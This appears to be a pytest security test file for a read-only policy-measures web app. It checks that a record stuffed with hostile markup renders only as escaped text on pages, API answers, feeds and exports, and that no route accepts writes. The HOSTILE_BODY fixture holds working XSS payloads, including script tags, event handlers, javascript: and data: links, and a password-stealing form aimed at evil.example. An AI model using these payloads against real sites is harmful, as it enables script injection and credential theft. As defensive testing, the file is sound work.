"""Injection and a read-only site: a record full of hostile markup reaches no page, API answer
or feed as markup, the sanitizer's allow-list stays small, and no route writes or uploads."""

from __future__ import annotations

import csv
import hashlib
import io
import re
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from indexer.engine.build import build_index
from tests.conftest import fixture_corpus
from tests.helpers import SOURCE_ID, ZHEJIANG_OIL, record
from tests.webhelpers import active_content, text_of
from webapp import create_app
from webapp import rendering

HOSTILE_ID = "hostile-markup-record"
ATOM = "{http://www.w3.org/2005/Atom}"

# What the validator lets through in front matter: titles and the zones note are free text.
HOSTILE_TITLE = '<script>alert("title")</script> Hostile <b onmouseover=alert(1)>markup</b> measure'
HOSTILE_TITLE_ZH = "恶意标记<img src=x onerror=alert('zh')>"
HOSTILE_NOTE = "<iframe src='https://evil.example/note'></iframe> and zones it does not name"
HOSTILE_BODY = """\
Zzhostile tank logistics. <script>alert('body')</script> zzhostile <scr<script>ipt>alert('nested')</script>

<img src=x onerror="alert('img')"> zzhostile <a href="javascript:alert('a')">js link</a>
<a href="  jav&#x09;ascript:alert('entity')">entity link</a> <a href="JaVaScRiPt:alert(1)">case</a>

<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="password"><button>go</button></form>
<svg onload="alert('svg')"><circle r="1"/><script>alert('in svg')</script></svg>
<math><mi xlink:href="javascript:alert('math')">m</mi></math>
<object data="evil.swf"></object><embed src="evil.swf">
<details open ontoggle="alert('toggle')">d</details>
<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel="stylesheet" href="https://evil.example/x.css"><style>body { display: none }</style>
<p onclick="alert('p')" style="background:url(javascript:alert('css'))">styled zzhostile paragraph</p>
<video src=x onerror=alert('video')></video><audio src=x onerror=alert(1)></audio>

[markdown js link](javascript:alert('md')) and [data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
and [vbscript](vbscript:msgbox(1)) and <javascript:alert('autolink')>

![markdown image](javascript:alert('image')) ![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

zzhostile <img src=x onerror=alert('unclosed')
A literal &lt;script&gt;alert('entity')&lt;/script&gt; and a bare < and > in text, zzhostile.
"""


@pytest.fixture(scope="module")
def hostile_index(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("hostile")
    measures = fixture_corpus(root / "measures")
    # valid by the validator: the quote stays verbatim in the source
    (measures / f"{HOSTILE_ID}.md").write_text(record(
        title=f"'{HOSTILE_TITLE}'", title_zh=f'"{HOSTILE_TITLE_ZH}"', zones="[zhejiang, shanghai]",
        tags="[zzhostile, test-tag]", body=HOSTILE_BODY, extra=f'zones_note: "{HOSTILE_NOTE}"\n',
    ), encoding="utf-8")
    index = root / "index"
    build_index(measures, index)
    return {"measures": measures, "index": index}


@pytest.fixture(scope="module")
def hostile(hostile_index):
    app = create_app({"TESTING": True, "MEASURES_DIR": hostile_index["measures"],
                      "INDEX_DIR": hostile_index["index"]})
    return app.test_client()


def test_the_hostile_record_is_valid_and_indexed(hostile):
    data = hostile.get(f"/api/measures/{HOSTILE_ID}").get_json()
    assert data["title"] == HOSTILE_TITLE and data["title_zh"] == HOSTILE_TITLE_ZH
    assert data["zones_note"] == HOSTILE_NOTE
    assert "<script>alert('body')</script>" in data["body"]  # the Markdown as written


HOSTILE_PAGES = [
    f"/measures/{HOSTILE_ID}",
    "/search?q=zzhostile",
    "/search?q=zzhostile+tank",
    "/search?q=tag:zzhostile",
    "/search?q=hostile+markup&zone=zhejiang",
    "/search?zone=shanghai",
    "/",
    "/zones/zhejiang",
    "/pillars/logistics",
    f"/sources/{SOURCE_ID}",
    "/compare?zone=zhejiang&zone=shanghai",
    f"/measures/{ZHEJIANG_OIL}",  # related measures list the hostile one
]


@pytest.mark.parametrize("url", HOSTILE_PAGES)
def test_hostile_markup_reaches_no_page(hostile, url):
    response = hostile.get(url)
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert "Hostile" in text_of(html), "the hostile record must be on the page for the test to mean anything"
    charts = url == "/" or url.startswith("/pillars/")
    assert active_content(html, charts=charts) == []
    assert "alert(" not in "".join(_attribute_values(html))
    # the titles are shown, as text
    assert "&lt;script&gt;alert(&#34;title&#34;)&lt;/script&gt;" in html
    assert "<script>alert" not in html and "<b onmouseover" not in html


def _attribute_values(html: str) -> list[str]:
    from html.parser import HTMLParser

    values: list[str] = []

    class Attributes(HTMLParser):
        def handle_starttag(self, tag, attrs):
            values.extend(v or "" for _, v in attrs)

    Attributes().feed(html)
    return values


def test_record_body_is_sanitized_on_the_measure_page(hostile):
    html = hostile.get(f"/measures/{HOSTILE_ID}").get_data(as_text=True)
    body = html.split('<div class="body">', 1)[1].split('<section class="citation"', 1)[0]
    assert active_content(body, allow_layout=False) == []
    text = text_of(body)
    # the words of the body stay readable; what would run is gone
    assert "Zzhostile tank logistics." in text and "js link" in text and "markdown js link" in text
    assert "styled zzhostile paragraph" in text
    for gone in ("alert('body')", "alert('svg')", "evil.example", "password", "display: none"):
        assert gone not in body, gone
    # the zones note is text
    assert "&lt;iframe src=&#39;https://evil.example/note&#39;&gt;" in html


def test_record_body_html_in_the_api_is_sanitized(hostile):
    data = hostile.get(f"/api/measures/{HOSTILE_ID}").get_json()
    body_html = data["body_html"]
    assert active_content(body_html, allow_layout=False) == []
    assert not re.search(r"<\s*script", body_html, re.I)
    assert not re.search(r"""(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):""", body_html, re.I)
    assert "evil.example" not in body_html


def test_snippets_of_the_hostile_record_are_escaped_text(hostile):
    for q in ("zzhostile", "zzhostile tank", "logistics zzhostile", "alert", "script"):
        data = hostile.get("/api/search", query_string={"q": q}).get_json()
        snippets = [hit["snippet"] for hit in data["results"] if hit["id"] == HOSTILE_ID]
        assert snippets, q
        for snippet in snippets:
            plain = snippet.replace("<mark>", "").replace("</mark>", "")
            assert "<" not in plain and ">" not in plain, snippet
            assert active_content(snippet, allow_layout=False) == []


def test_feed_carries_the_hostile_record_as_text(hostile):
    for url in ("/search.atom?q=zzhostile", "/search.atom?zone=zhejiang", "/search.atom"):
        response = hostile.get(url)
        assert response.status_code == 200
        feed = ET.fromstring(response.get_data())
        assert {el.tag.split("}")[0] + "}" for el in feed.iter()} == {ATOM}, "a foreign element"
        entries = [e for e in feed.iter(f"{ATOM}entry") if HOSTILE_ID in e.findtext(f"{ATOM}id")]
        assert len(entries) == 1
        entry = entries[0]
        assert entry.findtext(f"{ATOM}title") == HOSTILE_TITLE  # as text, escaped on the wire
        assert entry.find(f"{ATOM}title").get("type", "text") == "text"
        assert entry.find(f"{ATOM}summary").get("type") == "text"
        assert HOSTILE_TITLE_ZH in entry.findtext(f"{ATOM}summary")
        assert b"<script>" not in response.get_data()


def test_exports_carry_the_hostile_record_as_data(hostile):
    csv_text = hostile.get("/search.csv?q=zzhostile").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(csv_text, newline="")))
    # a CSV cell is data, which a spreadsheet shows as text
    assert [(r["id"], r["title"], r["title_zh"]) for r in rows] == [
        (HOSTILE_ID, HOSTILE_TITLE, HOSTILE_TITLE_ZH)]
    exported = hostile.get("/search.json?q=zzhostile")
    assert exported.mimetype == "application/json"
    assert exported.headers["X-Content-Type-Options"] == "nosniff"
    assert exported.get_json()["measures"][0]["title"] == HOSTILE_TITLE


# -- the sanitizer's allow-list ---------------------------------------------------------

def test_the_sanitizer_allow_list_holds_nothing_active():
    active = {"script", "style", "iframe", "frame", "object", "embed", "form", "input",
              "button", "textarea", "select", "svg", "math", "img", "video", "audio", "source",
              "link", "meta", "base", "template", "details", "applet"}
    assert not rendering.ALLOWED_TAGS & active
    for tag, attributes in rendering.ALLOWED_ATTRIBUTES.items():
        assert tag in rendering.ALLOWED_TAGS
        assert not {a for a in attributes if a.startswith("on")}, tag
        assert not attributes & {"style", "src", "srcset", "action", "formaction", "xlink:href"}
    assert rendering.URL_SCHEMES <= {"http", "https", "mailto"}
    assert {"script", "style", "iframe", "svg", "math"} <= rendering.DROPPED_WITH_CONTENT


# -- read-only ------------------------------------------------------------------------------

WRITE_METHODS = {"POST", "PUT", "PATCH", "DELETE"}
SAMPLE_ARGUMENTS = {"measure_id": ZHEJIANG_OIL, "zone_id": "zhejiang", "pillar_id": "logistics",
                    "source_id": SOURCE_ID, "filename": "style.css", "lang": "zh",
                    "batch_id": "state-council-3"}


def _sample_urls(app) -> list[str]:
    urls = []
    with app.test_request_context():
        for rule in app.url_map.iter_rules():
            urls.append(rule.build({name: SAMPLE_ARGUMENTS[name] for name in rule.arguments})[1])
    return urls


def test_no_route_accepts_a_write_method(app):
    for rule in app.url_map.iter_rules():
        assert not rule.methods & WRITE_METHODS, (rule.rule, rule.methods)


def test_uploads_and_writes_to_every_route_are_refused(app, client):
    urls = _sample_urls(app)
    assert len(urls) >= 15 and "/static/style.css" in urls
    for url in urls:
        upload = client.post(url, data={"file": (io.BytesIO(b"<script>x</script>"), "evil.html")},
                             content_type="multipart/form-data")
        assert upload.status_code == 405, url
        assert "GET" in upload.headers["Allow"]
        for method in ("put", "patch", "delete"):
            assert getattr(client, method)(url, data=b"x").status_code == 405, (method, url)


def _tree_digest(root: Path) -> dict[str, str]:
    """Every file under root with the hash of its bytes. readers/ is left out: a process
    registers there the generation it opens (indexer/engine/store.py), when it opens the index,
    whichever page it serves."""
    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(root.rglob("*")) if p.is_file() and "readers" not in p.relative_to(root).parts}


def test_serving_pages_writes_nothing(measures_copy, tmp_path):
    index = tmp_path / "index"
    build_index(measures_copy, index)
    app = create_app({"TESTING": True, "MEASURES_DIR": measures_copy, "INDEX_DIR": index})
    client = app.test_client()
    before = (_tree_digest(measures_copy), _tree_digest(index), _tree_digest(tmp_path))
    urls = _sample_urls(app) + [
        "/search?q=oil", "/search?q=保税&zone=zhejiang", "/api/search?q=rcep", "/search.csv?q=oil",
        "/search.json", "/search.atom?zone=zhejiang", "/compare?zone=zhejiang&zone=shanghai",
        "/search?q=oill", "/no/such/page", "/search?zone=nope", "/api/measures/nope",
    ]
    for url in urls:
        with client.get(url) as response:  # static files are streamed: close them
            assert response.status_code < 500, url
    for url in urls[:5]:
        client.post(url, data={"file": (io.BytesIO(b"data"), "upload.txt")})
    after = (_tree_digest(measures_copy), _tree_digest(index), _tree_digest(tmp_path))
    assert after == before
